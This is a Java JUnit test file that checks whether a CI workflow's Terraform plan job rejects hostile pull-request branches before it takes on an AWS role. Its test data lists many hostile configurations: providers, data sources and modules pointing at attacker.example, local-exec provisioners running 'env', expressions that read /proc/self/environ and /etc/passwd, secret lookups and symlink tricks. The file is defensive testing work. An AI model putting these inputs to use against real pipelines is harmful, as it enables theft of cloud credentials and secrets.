package prode.workflows;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;

/**
 * Whoever may push a branch must not get the plan's role with it. The plan job of pull-request.yml runs with branches
 * that try; a program named terraform notes whether it was called.
 */
@Tag("terraform")
class HostileBranchesTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Path OUTPUT = Path.of("main.tf.json-output");
    private static final String STACK = "main.tf.json-output/stacks/prod-e/cdk.tf.json";

    /** How a branch differs from the base. */
    private interface Change {
        void in(Path project) throws IOException;
    }

    @TempDir
    private Path folder = Path.of("");

    private Path calls = Path.of("");
    private Path programs = Path.of("");

    @BeforeEach
    void fakeTerraform() throws IOException {
        calls = folder.resolve("terraform.calls");
        programs = Files.createDirectories(folder.resolve("programs"));
        program(programs.resolve("terraform"), """
                echo "${ROLE:-no role} $1" >>'%s'
                case $1 in plan) for a; do case $a in -out=*) : >"${a#-out=}" ;; esac; done; exit 2 ;; show) echo '{}' ;; esac
                """.formatted(calls));
    }

    /** Without this the test would also pass when nothing is ever planned. */
    @Test
    void anHonestBranchIsPlannedWithTheRole() throws IOException {
        var run = planOf(stack(json -> resource(json, "aws_vpc").put("cidr_block", "10.1.0.0/16")));

        assertThat(run.result("plan").log()).contains("prod-e: changes");
        assertThat(run.result("plan").succeeded()).as(run.result("plan").log()).isTrue();
        assertThat(Files.readAllLines(calls)).contains("plan init", "plan plan");
    }

    @TestFactory
    Stream<DynamicTest> isNotPlanned() {
        return hostile().entrySet().stream().map(branch -> DynamicTest.dynamicTest(branch.getKey(), () -> {
            Files.deleteIfExists(calls);

            var run = planOf(branch.getValue());

            assertThat(run.result("plan").status()).isEqualTo("failure");
            assertThat(calls).doesNotExist();
            assertThat(run.events()).noneMatch(event -> event.contains("takes the role"));
            assertThat(run.artifact("review").resolve("comment.md"))
                    .content()
                    .startsWith("**Not planned.** This branch changes what a plan may run")
                    .doesNotContain("](", "<", "@");
        }));
    }

    private Map<String, Change> hostile() {
        var branches = new LinkedHashMap<String, Change>();
        branches.put("a provider with an endpoint elsewhere", stack(json -> provider(json)
                .putArray("endpoints")
                .addObject()
                .put("sts", "https://attacker.example")));
        branches.put("a provider with credential_process from a shared configuration", stack(json -> provider(json)
                .putArray("shared_config_files")
                .add("main.tf.json-output/config")));
        branches.put("a second provider", stack(json -> member(json, "provider")
                .putArray("http")
                .addObject()));
        branches.put("a state elsewhere", stack(json -> backend(json).put("bucket", "attacker")));
        branches.put("a backend with another role", stack(json -> backend(json)
                .putObject("assume_role")
                .put("role_arn", "arn:aws:iam::444455556666:role/attacker")));
        branches.put("a backend with a profile", stack(json -> backend(json).put("profile", "attacker")));
        branches.put("a cloud block", stack(json -> member(json, "terraform")
                .putObject("cloud")
                .put("hostname", "attacker.example")));
        branches.put("another source of a provider", stack(json -> member(json, "terraform")
                .putObject("required_providers")
                .putObject("aws")
                .put("source", "attacker/aws")));
        branches.put("provider_meta", stack(json -> member(json, "terraform").putObject("provider_meta")));
        branches.put("external data", stack(json -> data(json, "external").putArray("program").add("id")));
        branches.put("data by HTTP", stack(json -> data(json, "http").put("url", "https://attacker.example")));
        branches.put("the value of a secret", stack(json -> data(json, "aws_secretsmanager_secret_version")
                .put("secret_id", "prod-e/db-credentials")));
        branches.put("an ephemeral resource", stack(json -> json.putObject("ephemeral").putObject("aws_kms_secrets")));
        branches.put("a module from git", stack(json -> json.putObject("module")
                .putObject("m")
                .put("source", "git::https://attacker.example/m")));
        branches.put("a provisioner", stack(json -> resource(json, "aws_vpc")
                .putObject("provisioner")
                .putObject("local-exec")
                .put("command", "env")));
        branches.put("a provisioner of a removed resource", stack(json -> json.putArray("removed")
                .addObject()
                .put("from", "aws_vpc.a")
                .putObject("provisioner")));
        branches.put("a provisioner in a block written as a list", stack(json -> {
            var vpc = member(json, "resource", "aws_vpc");
            var name = vpc.fieldNames().next();
            var body = (ObjectNode) vpc.remove(name);
            body.putObject("provisioner").putObject("local-exec").put("command", "env");
            vpc.putArray(name).add(body);
        }));
        branches.put("a connection", stack(json -> resource(json, "aws_vpc").putObject("connection")));
        branches.put("a file read by an expression", expression("${file(\"/proc/self/environ\")}"));
        branches.put("a template of a file", expression("${templatefile(\"/proc/self/environ\", {})}"));
        branches.put("a file in an expression within an expression", expression("${\"${filebase64(\"/etc/passwd\")}\"}"));
        branches.put("a file behind a comment", expression("${file/**/(\"/etc/passwd\")}"));
        branches.put("a file behind an escaped dollar", expression("$$${file(\"/etc/passwd\")}"));
        branches.put("a file in a directive", expression("%{ if fileexists(\"/etc/passwd\") }a%{ endif }"));
        branches.put("a function of a provider", expression("${provider::aws::arn_parse(\"a\")}"));
        branches.put("a file read in a name", stack(json -> resource(json, "aws_vpc")
                .putObject("tags")
                .put("${file(\"/etc/passwd\")}", "a")));
        branches.put("an expression written in Unicode escapes", text(text -> text.replaceFirst(
                "\"enable_dns_support\": true", "\"enable_dns_support\": \"\\\\u0024\\\\u007bfile(1)}\"")));
        branches.put("a local file as an argument", stack(json -> resource(json, "aws_lambda_function")
                .put("filename", "/proc/self/environ")));
        branches.put("a name that stands twice", text(text -> text.replaceFirst(
                "\\{", "{\n  \"provider\": {\"aws\": [{\"region\": \"us-east-1\"}]},")));
        branches.put("what is no JSON", text(text -> text.replaceFirst("\\{", "{ // a comment\n")));
        branches.put("JSON in another encoding", project -> Files.write(
                project.resolve(STACK), Files.readString(project.resolve(STACK)).getBytes("UTF-16")));
        branches.put("a huge file", text(text -> " ".repeat(5 * 1024 * 1024) + text));
        branches.put("nesting without end", text(text -> text.replaceFirst(
                "\\{", "{\"//\": " + "[".repeat(100_000) + "]".repeat(100_000) + ",")));
        branches.put("an override file", file("stacks/prod-e/cdk_override.tf.json", "{}"));
        branches.put("a second configuration file", file("stacks/prod-e/more.tf.json", "{}"));
        branches.put("HCL beside the JSON", file("stacks/prod-e/main.tf", "locals {}"));
        branches.put("variables", file("stacks/prod-e/terraform.tfvars", "a = 1"));
        branches.put("a lock file", file("stacks/prod-e/.terraform.lock.hcl", "provider {}"));
        branches.put("a command line configuration", file("stacks/prod-e/.terraformrc", "provider_installation {}"));
        branches.put("a backend remembered in .terraform", file("stacks/prod-e/.terraform/terraform.tfstate", "{}"));
        branches.put("a folder beside the stacks", file("modules/a/main.tf", ""));
        branches.put("a stack of its own", file("stacks/prod-e-attacker/cdk.tf.json", "{}"));
        branches.put("a link instead of the file", project -> {
            Files.delete(project.resolve(STACK));
            Files.createSymbolicLink(project.resolve(STACK), Path.of("/proc/self/environ"));
        });
        branches.put("a link instead of the folder", project -> {
            var stack = Objects.requireNonNull(project.resolve(STACK).getParent());
            Files.move(stack, project.resolve("elsewhere"));
            Files.createSymbolicLink(stack, Path.of("../../elsewhere"));
        });
        return branches;
    }

    /** Runs the plan job as GitHub would for this branch. */
    private WorkflowRun planOf(Change change) throws IOException {
        var scratch = Files.createTempDirectory(folder, "repository");
        // The command line of the base branch is not what this test is about.
        var repository = ScratchRepository.of(scratch, "scripts/ci", OUTPUT.toString());
        program(scratch.resolve("scripts/prod-e"), """
                case $1 in review) mkdir -p target/ci/review && echo reviewed >target/ci/review/comment.md ;; esac
                """);
        var base = repository.commit("command line");
        repository.branch("hostile", base);
        change.in(scratch);
        var head = repository.commit("change");
        return new WorkflowRun("pull-request", repository, Files.createTempDirectory(folder, "run"))
                .path(programs)
                .context("github", PullRequest.event("example/prod-e", base, head))
                .after("policy", "success", Map.of())
                .start("plan");
    }

    private static Change stack(Consumer<ObjectNode> change) {
        return project -> {
            var file = project.resolve(STACK);
            var json = (ObjectNode) JSON.readTree(file.toFile());
            change.accept(json);
            Files.writeString(file, JSON.writerWithDefaultPrettyPrinter().writeValueAsString(json));
        };
    }

    private static Change expression(String expression) {
        return stack(json -> resource(json, "aws_vpc").put("cidr_block", expression));
    }

    private static Change text(java.util.function.UnaryOperator<String> change) {
        return project -> {
            var file = project.resolve(STACK);
            var before = Files.readString(file);
            var after = change.apply(before);
            assertThat(after).isNotEqualTo(before);
            Files.writeString(file, after);
        };
    }

    private static Change file(String path, String content) {
        return project -> {
            var file = project.resolve(OUTPUT).resolve(path);
            Files.createDirectories(Objects.requireNonNull(file.getParent()));
            Files.writeString(file, content);
        };
    }

    private static ObjectNode provider(ObjectNode json) {
        return (ObjectNode) json.at("/provider/aws/0");
    }

    private static ObjectNode backend(ObjectNode json) {
        return member(json, "terraform", "backend", "s3");
    }

    /** The first resource of a type. */
    private static ObjectNode resource(ObjectNode json, String type) {
        return (ObjectNode) member(json, "resource", type).elements().next();
    }

    private static ObjectNode data(ObjectNode json, String type) {
        return member(json, "data").putObject(type).putObject("a");
    }

    private static ObjectNode member(ObjectNode json, String... path) {
        JsonNode node = json;
        for (var name : path) {
            node = node.path(name);
        }
        assertThat(node.isObject()).as(Arrays.toString(path)).isTrue();
        return (ObjectNode) node;
    }

    private static void program(Path file, String script) throws IOException {
        Files.createDirectories(Objects.requireNonNull(file.getParent()));
        Files.writeString(file, "#!/usr/bin/env bash\nset -euo pipefail\n" + script);
        assertThat(file.toFile().setExecutable(true)).isTrue();
    }
}
